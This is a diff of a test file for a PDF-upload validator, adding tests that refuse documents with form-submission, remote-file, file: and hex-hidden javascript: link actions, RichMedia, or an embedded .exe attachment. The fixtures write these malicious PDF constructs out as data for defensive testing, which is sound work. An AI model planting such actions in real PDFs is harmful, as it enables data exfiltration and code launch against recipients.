@@ -38,7 +38,7 @@ describe('PDF uploads are checked by parsing them (issue 16)', () => {
     expect(latin1(bytes)).toContain('/ObjStm');
     expect(latin1(bytes)).not.toMatch(/JavaScript|\/JS/);
     const err = await refusal(bytes);
-    expect(err).toMatchObject({ statusCode: 415, message: expect.stringContaining('script or launch actions') });
+    expect(err).toMatchObject({ statusCode: 415, message: expect.stringContaining('script, launch or form-submission actions') });
   });
 
   it('refuses a document-level script (the /Names /JavaScript tree pdf-lib writes)', async () => {
@@ -68,6 +68,37 @@ describe('PDF uploads are checked by parsing them (issue 16)', () => {
       '%%EOF',
     ].join('\n');
     expect((await refusal(Buffer.from(text, 'latin1')))?.statusCode).toBe(415);
+  });
+
+  describe('also refuses what sends data away, opens other files or carries attachments (issue 24)', () => {
+    /** A one-object PDF whose catalogue opens with the given action (written as a viewer reads it). */
+    const opening = (action: string) => Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << ${action} >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');
+
+    it.each([
+      ['a form that submits itself', '/S /SubmitForm /F (https://collect.example.org/form)'],
+      ['a link to another PDF file (/GoToR)', '/S /GoToR /F (\\\\server\\share\\other.pdf) /D [0]'],
+      ['an embedded Flash or video player (/RichMedia)', '/Type /Annot /Subtype /RichMedia'],
+      ['a file: link', '/S /URI /URI (file:///C:/Windows/system32/calc.exe)'],
+      ['a javascript: link, its scheme hidden in a hex string', `/S /URI /URI <${Buffer.from('javascript:alert(1)').toString('hex')}>`],
+      ['a link target that is not a string here', '/S /URI /URI 7 0 R'],
+    ])('refuses %s', async (_what, action) => {
+      expect(await refusal(opening(action))).toMatchObject({ statusCode: 415, message: expect.stringContaining('print it to a plain PDF') });
+    });
+
+    it('refuses an attached file (the /EmbeddedFiles name tree pdf-lib writes), compressed out of sight', async () => {
+      const bytes = await pdfWith((doc) => doc.attach(Buffer.from('MZ fake program'), 'timetable.exe', { mimeType: 'application/octet-stream' }));
+      expect(latin1(bytes)).not.toContain('EmbeddedFiles');
+      expect((await refusal(bytes))?.statusCode).toBe(415);
+    });
+
+    it('keeps web links: /URI to http and https', async () => {
+      for (const target of ['https://aec.ac.in/notices', 'HTTP://aec.ac.in/']) {
+        const bytes = await pdfWith((doc) => {
+          doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'URI', URI: PDFString.of(target) }));
+        });
+        expect(await refusal(bytes)).toBeUndefined();
+      }
+    });
   });
 
   it('refuses what it cannot check: an encrypted PDF, a damaged one', async () => {
